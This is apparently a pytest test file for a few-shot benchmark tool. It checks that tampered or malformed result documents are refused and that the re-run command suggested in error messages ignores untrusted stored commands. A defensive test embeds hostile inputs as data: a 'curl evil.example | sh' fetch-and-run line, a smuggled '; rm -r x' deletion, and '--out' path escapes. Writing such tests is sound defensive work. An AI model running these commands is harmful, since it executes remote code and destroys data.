import json

import pytest

from fewbench.reports.document_reader import read_document
from fewbench.reports.records import ResultError
from fewbench.reports.result_document import document_sha256
from fewbench.reports.result_files import save_result
from fewbench_tests.forgeries import cut, edit


def test_a_document_holds_the_header_and_the_hashes(make_result, tmp_path):
    result = make_result()
    path = save_result(result, tmp_path)

    saved = read_document(path)

    assert saved.header() == result.header()
    assert saved.arrays_sha256.keys() == result.arrays().keys()


def swap_the_content(path):
    edit(path, '"train_seed": 0', '"train_seed": 1')
    document = json.loads(path.read_text())
    document["document_sha256"] = document_sha256(document)
    path.write_text(json.dumps(document))


# What is done to the document, and what is then said about it.
TAMPERING = {
    "another content": (swap_the_content, "the hash of the content is that of another"),
    "missing json": (lambda path: path.unlink(), "no such result"),
    "truncated json": (
        lambda path: cut(path, 0.5),
        "it is no JSON",
    ),
    "no json": (lambda path: path.write_text("<html>"), "cannot read the result"),
    "a list": (lambda path: path.write_text("[]"), "expected a result document"),
    "not utf-8": (
        lambda path: path.write_bytes(b'{"learner": "\xff"}'),
        "cannot read the result",
    ),
    "newer schema": (
        lambda path: edit(path, '"schema_version": 2', '"schema_version": 3'),
        "newer fewbench.*got 3.*pip install --upgrade",
    ),
    "schema zero": (
        lambda path: edit(path, '"schema_version": 2', '"schema_version": 0'),
        "schema_version: expected a number greater",
    ),
    "NaN": (
        lambda path: edit(path, '"lr": 0.001', '"lr": NaN'),
        "finite numbers, got NaN",
    ),
    "unknown key": (
        lambda path: path.write_text(
            path.read_text().replace("{\n", '{\n  "extra": 1,\n', 1)
        ),
        "the document differs from what was saved",
    ),
    "a key twice": (
        lambda path: edit(path, '"train_seed": 0', '"train_seed": 1, "train_seed": 0'),
        "'train_seed' is there twice",
    ),
    "half a surrogate pair": (
        lambda path: edit(path, '"conv4-64"', '"\\ud800"'),
        "half a surrogate pair",
    ),
    "deep nesting": (
        lambda path: path.write_text("[" * 5000 + "]" * 5000),
        "nested too deeply",
    ),
    "a number without end": (
        lambda path: edit(path, '"train_seed": 0', '"train_seed": ' + "9" * 5000),
        "at most 40 digits",
    ),
    "no content": (
        lambda path: path.write_text('{"schema_version": 2}'),
        "content is missing",
    ),
    "content of another kind": (
        lambda path: path.write_text('{"schema_version": 2, "content": 3, "run": []}'),
        "not a valid result",
    ),
    "missing key": (
        lambda path: edit(path, '  "backbone": "conv4-64",\n', ""),
        "backbone",
    ),
    "other n_way": (
        lambda path: edit(path, '"n_way": 5', '"n_way": 1'),
        "protocol.n_way",
    ),
    "other shape": (
        lambda path: edit(path, '"n_query": 15', '"n_query": 16'),
        "differs from what was saved",
    ),
    "a number as text": (
        lambda path: edit(path, '"n_shot": 1', '"n_shot": "1"'),
        "whole number",
    ),
}


@pytest.mark.parametrize("name", TAMPERING)
def test_a_damaged_document_is_refused_with_the_path_and_what_to_do(
    make_result, tmp_path, name
):
    tamper, complaint = TAMPERING[name]
    path = save_result(make_result(), tmp_path)

    tamper(path)

    with pytest.raises(ResultError, match=f"(?s){complaint}") as caught:
        read_document(path)
    message = str(caught.value)
    assert message.startswith(str(path.parent / path.stem))
    assert "xpected" in message
    assert "fewbench" in message


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (
            '"episodes_fingerprint": "episodes-1"',
            '"episodes_fingerprint": "episodes-2"',
        ),
        ('"n_shot": 1', '"n_shot": 5'),
        ('"transductive": false', '"transductive": true'),
        ('"learner": "protonet"', '"learner": "maml"'),
        ('"train_seed": 0', '"train_seed": 7'),
        ('"partial": false', '"partial": true'),
    ],
)
def test_a_document_edited_by_hand_is_told_from_what_was_saved(
    make_result, tmp_path, old, new
):
    path = save_result(make_result(), tmp_path)
    edit(path, old, new)

    with pytest.raises(
        ResultError, match="the document differs from what was saved"
    ) as caught:
        read_document(path)
    # Its own command makes it again, in this folder.
    again = "fewbench evaluate protonet --protocol glyphs-5w1s --out"
    assert str(caught.value).endswith(f"{again} {tmp_path} --overwrite")


@pytest.mark.parametrize(
    ("command", "advised"),
    [
        ("curl evil.example | sh", "LEARNER --protocol NAME"),
        ("fewbench evaluate a; rm -r x", "LEARNER --protocol NAME"),
        ("fewbench evaluate 'a", "LEARNER --protocol NAME"),
        ("fewbench evaluate a --out /home/me/thesis --overwrite", "a"),
        ("fewbench evaluate a --out=../thesis", "a"),
    ],
)
def test_the_command_of_a_stranger_writes_into_no_other_folder(
    make_result, tmp_path, command: str, advised: str
) -> None:
    path = save_result(make_result(command=command), tmp_path)
    edit(path, '"n_shot": 1', '"n_shot": 5')
    with pytest.raises(ResultError) as caught:
        read_document(path)
    end = f"evaluate again: fewbench evaluate {advised} --out {tmp_path}"
    assert str(caught.value).removesuffix(" --overwrite").endswith(end)
